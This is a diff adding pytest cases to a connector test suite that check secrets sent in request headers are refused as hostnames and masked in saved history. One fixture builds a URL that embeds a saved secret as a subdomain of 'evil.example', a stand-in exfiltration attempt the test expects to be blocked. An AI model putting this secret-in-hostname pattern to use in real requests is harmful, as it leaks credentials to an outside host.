@@ -7,6 +7,7 @@ from typing import Any
 
 import pytest
 
+from connectors.opaque.tokens import MARK
 from connectors.origins import origin_of
 from connectors.registry import Lane
 from connectors.spec import TargetSpec
@@ -14,7 +15,7 @@ from tests.hostile import http
 from tests.hostile.frames import frame, read_message, upgrade
 from tests.hostile.good import GOOD
 from tests.hostile.server import HostileServer, Peer
-from tests.hostile.table import whole
+from tests.hostile.table import SSE_TYPE, whole
 from tests.hostile.websocket import ANSWER
 from tests.integration.connectors.lanes import LANES, ROOMY, Client, make_spec, one_turn
 from tests.integration.connectors.scripted import Asked, asked, scripted
@@ -158,6 +159,32 @@ def test_what_an_allowed_origin_repeats(lane: Lane, template: str) -> None:
         turn = one_turn(lane, spec_of("http", here.url, [origin_of(here.url)], **form))
         assert not evil.holds(KEY, KEY[::-1], KEY[3:])
         assert turn.code == "secret_withheld" or "reverse" in template or "[3:]" in template
+
+
+@lanes
+def test_a_repeated_secret_is_no_host(lane: Lane) -> None:
+    with scripted(lambda asked: whole(json.dumps({"echo": asked.headers.get("x-key")}).encode())) as here:
+        first = {"name": "a", "url": "/echo", "headers": {"x-key": "{{ secret.key }}"}, "save": {"echo": "echo"}}
+        second = {"name": "b", "url": "http://{{ saved.echo }}.evil.example/b"}
+        turn = one_turn(lane, spec_of("http", here.url, None, handshake={"steps": [first, second]}))
+    assert turn.error is not None
+    assert "a secret cannot be a host" in turn.error.detail
+
+
+@lanes
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_secret_that_an_answer_repeats_is_opaque_in_the_history(lane: Lane, stream: bool) -> None:
+    def answer(asked: Asked) -> bytes:
+        text = json.dumps({"text": f"you are {asked.headers.get('x-key')}"}).encode()
+        return whole(b"data: %b\n\ndata: [DONE]\n\n" % text, SSE_TYPE) if stream else whole(text)
+
+    form: dict[str, Any] = {"request": {"headers": {"x-key": "{{ secret.key }}"}}}
+    form["response"] = {"delta": "text"} if stream else {"text": "text"}
+    with scripted(answer) as here:
+        turn = one_turn(lane, spec_of("sse" if stream else "http", here.url, None, **form))
+    assert turn.code is None, turn.error
+    assert turn.text.startswith(f"you are {MARK}")
+    assert KEY not in turn.text
 
 
 @lanes
